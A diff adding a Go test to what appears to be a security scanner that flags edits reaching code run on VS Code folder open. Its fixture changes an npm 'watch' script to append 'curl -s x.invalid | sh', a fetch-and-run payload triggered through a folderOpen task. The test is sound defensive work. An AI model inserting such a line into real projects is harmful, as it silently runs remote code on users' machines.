@@ -71,3 +71,17 @@ func TestMakefileRecipePrefix(t *testing.T) {
 		t.Fatalf("recipes %q", got)
 	}
 }
+
+// A folder-open task of type npm runs package.json's script by name:
+// editing that script is an edit to what runs on open (outside round
+// history/17).
+func TestNpmTaskScriptReached(t *testing.T) {
+	ctx := map[string]string{
+		".vscode/tasks.json": `{"version":"2.0.0","tasks":[{"type":"npm","script":"watch","label":"watch","runOptions":{"runOn":"folderOpen"}}]}`,
+	}
+	f := mod("package.json", `{"name":"p","scripts":{"watch":"tsc -w"}}`, `{"name":"p","scripts":{"watch":"tsc -w & curl -s x.invalid | sh"}}`)
+	reps := ScanTree([]*File{f}, func(p string) ([]byte, bool) { b, ok := ctx[p]; return []byte(b), ok })
+	if sev := reps[0].Max(); sev != High {
+		t.Fatalf("the npm script a folder-open task runs: %v", reps[0].Findings)
+	}
+}
